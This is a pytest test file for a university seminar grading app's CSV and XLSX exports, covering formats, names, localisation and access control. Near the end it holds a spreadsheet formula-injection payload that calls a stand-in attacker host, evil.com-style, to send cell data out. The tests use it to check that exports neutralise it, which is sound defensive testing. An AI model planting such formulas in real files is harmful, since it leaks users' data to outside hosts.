"""The export for the exam office: CSV (streamed) and XLSX with every student, German style or international.

The files are read back with Python's csv module and with openpyxl; tests/grading/test_exports_libreoffice.py
reads the same files with LibreOffice."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from grading import exports, selectors, services

from .helpers import PARTICIPATION, PRESENTATION, REPORT, export_url, make_world, set_grade, three_components

pytestmark = pytest.mark.django_db

HEADER = [
    "Matriculation number",
    "Family name",
    "Given name",
    "E-mail",
    "Module number",
    "Exam date",
    "Presentation",
    "Report",
    "Final grade",
    "Band",
    "Status",
]
FINAL = HEADER.index("Final grade")
INCOMPLETE = "incomplete: no grade for Report"


@pytest.fixture
def world():
    world = make_world()
    world.seminar.module_number = "IN2107"
    world.seminar.exam_date = date(2027, 2, 15)
    world.seminar.save()
    set_grade(world.seminar, world.me, PRESENTATION, "1,3", grader=world.instructor)
    set_grade(world.seminar, world.me, REPORT, "2,0", grader=world.instructor)
    set_grade(world.seminar, world.other, PRESENTATION, "2,7", grader=world.instructor)
    return world


@pytest.fixture
def instructor_client(client, world):
    client.force_login(world.instructor)
    return client


def csv_rows(response, delimiter: str) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def xlsx_sheet(response):
    workbook = load_workbook(io.BytesIO(response.content))
    [sheet] = workbook.worksheets
    return sheet


def xlsx_rows(response) -> list[list]:
    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


def test_export_csv_with_decimal_comma_lists_every_student(instructor_client, world):
    response = instructor_client.get(export_url(world.seminar, "csv", "comma"))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="grades-{world.seminar.slug}.csv"'
    assert csv_rows(response, ";") == [
        HEADER,
        ["03700001", "Me", "Mia", "mia@uni.example", "IN2107", "15.02.2027", "1,3", "2,0", "1,5", "sehr gut"]
        + ["complete"],
        [
            "03700002",
            "Other",
            "Otto",
            "otto@uni.example",
            "IN2107",
            "15.02.2027",
            "2,7",
            "",
            "",
            "",
            INCOMPLETE,
        ],
    ]


def test_export_csv_with_decimal_point_uses_commas_between_fields_and_iso_dates(instructor_client, world):
    response = instructor_client.get(export_url(world.seminar, "csv", "point"))

    assert csv_rows(response, ",") == [
        HEADER,
        ["03700001", "Me", "Mia", "mia@uni.example", "IN2107", "2027-02-15", "1.3", "2.0", "1.5", "sehr gut"]
        + ["complete"],
        [
            "03700002",
            "Other",
            "Otto",
            "otto@uni.example",
            "IN2107",
            "2027-02-15",
            "2.7",
            "",
            "",
            "",
            INCOMPLETE,
        ],
    ]


@pytest.mark.parametrize("decimal", ["comma", "point"])
def test_export_xlsx_lists_every_student_with_numbers_as_numbers(instructor_client, world, decimal):
    response = instructor_client.get(export_url(world.seminar, "xlsx", decimal))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="grades-{world.seminar.slug}.xlsx"'
    exam_day = datetime(2027, 2, 15)
    assert xlsx_rows(response) == [
        HEADER,
        [
            "03700001",
            "Me",
            "Mia",
            "mia@uni.example",
            "IN2107",
            exam_day,
            1.3,
            2.0,
            1.5,
            "sehr gut",
            "complete",
        ],
        [
            "03700002",
            "Other",
            "Otto",
            "otto@uni.example",
            "IN2107",
            exam_day,
            2.7,
            None,
            None,
            None,
            INCOMPLETE,
        ],
    ]


@pytest.mark.parametrize(("decimal", "date_format"), [("comma", "DD.MM.YYYY"), ("point", "YYYY-MM-DD")])
def test_export_xlsx_cells_have_types_and_formats_for_the_exam_office(
    instructor_client, world, decimal, date_format
):
    sheet = xlsx_sheet(instructor_client.get(export_url(world.seminar, "xlsx", decimal)))
    header = [cell.value for cell in sheet[1]]
    mia = dict(zip(header, sheet[2], strict=True))
    otto = dict(zip(header, sheet[3], strict=True))

    for name in ("Matriculation number", "Family name", "Given name", "E-mail", "Module number", "Status"):
        assert (mia[name].data_type, mia[name].number_format) == ("s", "@"), name
    for name in ("Presentation", "Report", "Final grade"):
        assert (mia[name].data_type, mia[name].number_format) == ("n", "0.0"), name
    assert (mia["Exam date"].data_type, mia["Exam date"].number_format) == ("d", date_format)
    assert (otto["Final grade"].value, otto["Final grade"].number_format) == (None, "0.0")
    assert sheet.freeze_panes == "A2"


def test_export_xlsx_final_grade_can_be_computed_with(instructor_client, world):
    set_grade(world.seminar, world.other, REPORT, "5,0", grader=world.instructor)

    rows = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))

    assert [row[FINAL] for row in rows[1:]] == [1.5, 5.0]
    assert [row[FINAL + 1 :] for row in rows[1:]] == [
        ["sehr gut", "complete"],
        ["nicht ausreichend", "complete"],
    ]


def test_export_follows_the_rules_of_the_seminar(instructor_client, world):
    services.grading_settings_set(seminar=world.seminar, rounding="step", must_pass_all=True)

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "point")), ",")

    assert rows[1][FINAL:] == ["1.7", "gut", "complete"]


def test_export_of_a_seminar_without_module_number_and_exam_date_leaves_them_empty(instructor_client, world):
    world.seminar.module_number = ""
    world.seminar.exam_date = None
    world.seminar.save()

    csv_row = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")[1]
    xlsx_row = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))[1]

    assert csv_row[4:6] == ["", ""]
    assert xlsx_row[4:6] == [None, None]


def test_export_takes_family_and_given_name_as_the_person_gave_them(instructor_client, world):
    world.me.full_name = "Kim Jong-un"
    world.me.family_name = "Kim"
    world.me.given_name = "Jong-un"
    world.me.save()

    csv_row = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")[1]
    xlsx_row = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))[1]

    assert csv_row[1:3] == ["Kim", "Jong-un"]
    assert xlsx_row[1:3] == ["Kim", "Jong-un"]


def test_export_without_name_parts_splits_the_full_name_with_its_particles(instructor_client, world):
    world.me.full_name = "Ludwig van Beethoven"
    world.me.save()

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")

    assert rows[1][:3] == ["03700001", "van Beethoven", "Ludwig"]


def test_export_keeps_a_leading_zero_and_umlauts(instructor_client, world):
    world.me.matriculation_number = "00012345"
    world.me.family_name = "Groß-Müller"
    world.me.given_name = "Jürgen Ömer"
    world.me.save()

    csv_row = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")[1]
    xlsx_row = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))[1]

    assert csv_row[:3] == ["00012345", "Groß-Müller", "Jürgen Ömer"]
    assert xlsx_row[:3] == ["00012345", "Groß-Müller", "Jürgen Ömer"]


def test_export_with_a_quote_and_separator_in_a_name_keeps_the_columns(instructor_client, world):
    world.me.family_name = 'Me; "Mimi", Jr.'
    world.me.given_name = "Mia"
    world.me.save()

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")

    assert rows[1][:3] == ["03700001", 'Me; "Mimi", Jr.', "Mia"]
    assert all(len(row) == len(HEADER) for row in rows)


@pytest.mark.parametrize("query", ["", "?file_format=pdf&decimal=comma", "?file_format=csv&decimal=dot"])
def test_export_with_an_unknown_format_returns_to_the_sheet(instructor_client, world, query):
    url = export_url(world.seminar).split("?")[0] + query

    response = instructor_client.get(url)

    assert response.status_code == 302


def test_export_rows_of_the_selector_are_typed(world):
    rows = selectors.grading_sheet(world.seminar, world.instructor)

    assert list(exports.export_rows(world.seminar, rows)) == [
        exports.ExportRow(
            matriculation_number="03700001",
            family_name="Me",
            given_name="Mia",
            email="mia@uni.example",
            module_number="IN2107",
            exam_date=date(2027, 2, 15),
            grades=(Decimal("1.3"), Decimal("2.0")),
            final=Decimal("1.5"),
            band="sehr gut",
            status="complete",
        ),
        exports.ExportRow(
            matriculation_number="03700002",
            family_name="Other",
            given_name="Otto",
            email="otto@uni.example",
            module_number="IN2107",
            exam_date=date(2027, 2, 15),
            grades=(Decimal("2.7"), None),
            final=None,
            band="",
            status=INCOMPLETE,
        ),
    ]


def test_export_in_german_names_columns_and_status_in_german(instructor_client, world):
    response = instructor_client.get(export_url(world.seminar, "csv", "comma"), HTTP_ACCEPT_LANGUAGE="de")

    rows = csv_rows(response, ";")

    assert rows[0][:3] == ["Matrikelnummer", "Familienname", "Vorname"]
    assert rows[1][-1] == "vollständig"
    assert rows[2][-1] == "unvollständig: keine Note für Ausarbeitung"


@pytest.mark.parametrize("who", ["me", "supervisor", "foreign_instructor", "foreign_student", "outsider"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_by_anyone_but_the_seminars_instructor_is_forbidden(client, world, who, file_format):
    client.force_login(getattr(world, who))

    response = client.get(export_url(world.seminar, file_format, "comma"))

    assert response.status_code == 403
    assert b"Mia" not in response.content


def test_export_of_a_draft_seminar_by_another_seminars_instructor_is_404(client):
    world = make_world(state="draft")
    client.force_login(world.foreign_instructor)

    assert client.get(export_url(world.seminar, "csv", "comma")).status_code == 404


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Mia")'
FORMULA_LIKE = [FORMULA_NAME, "+49 151 2345678", "-x", "@y"]


@pytest.mark.parametrize("name", FORMULA_LIKE)
def test_export_xlsx_with_a_name_like_a_formula_keeps_it_as_a_plain_string(instructor_client, world, name):
    world.me.family_name = name
    world.me.given_name = name
    world.me.save()

    sheet = xlsx_sheet(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))

    for cell in (sheet["B2"], sheet["C2"]):
        assert (cell.data_type, cell.value) == ("s", name)


@pytest.mark.parametrize("name", [*FORMULA_LIKE, "\tTab", "\rReturn"])
def test_export_csv_with_a_name_like_a_formula_gets_an_apostrophe_in_front(instructor_client, world, name):
    world.me.family_name = name
    world.me.given_name = "Mia"
    world.me.save()

    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")

    assert rows[1][1] == "'" + name
    assert rows[1][2] == "Mia"


def test_export_with_three_components_has_a_column_for_each_in_their_order(instructor_client, world):
    three_components(world.seminar)
    set_grade(world.seminar, world.me, PARTICIPATION, "3,0", grader=world.instructor)

    csv_table = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "point")), ",")
    xlsx_table = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "point")))

    header = HEADER[:FINAL] + ["Participation"] + HEADER[FINAL:]
    # 0.5 x 1.3 + 0.3 x 2.0 + 0.2 x 3.0 = 1.85
    assert csv_table[0] == xlsx_table[0] == header
    assert csv_table[1][6:] == ["1.3", "2.0", "3.0", "1.8", "gut", "complete"]
    assert csv_table[2][6:] == ["2.7", "", "", "", "", "incomplete: no grade for Report, Participation"]
    assert xlsx_table[1][6:] == [1.3, 2.0, 3.0, 1.8, "gut", "complete"]
    assert xlsx_table[2][6:10] == [2.7, None, None, None]


def test_export_in_german_titles_the_component_columns_with_their_german_names(instructor_client, world):
    three_components(world.seminar)

    rows = csv_rows(
        instructor_client.get(export_url(world.seminar, "csv", "comma"), HTTP_ACCEPT_LANGUAGE="de"), ";"
    )

    assert rows[0][6:9] == ["Vortrag", "Ausarbeitung", "Mitarbeit"]
    assert rows[2][-1] == "unvollständig: keine Note für Ausarbeitung, Mitarbeit"
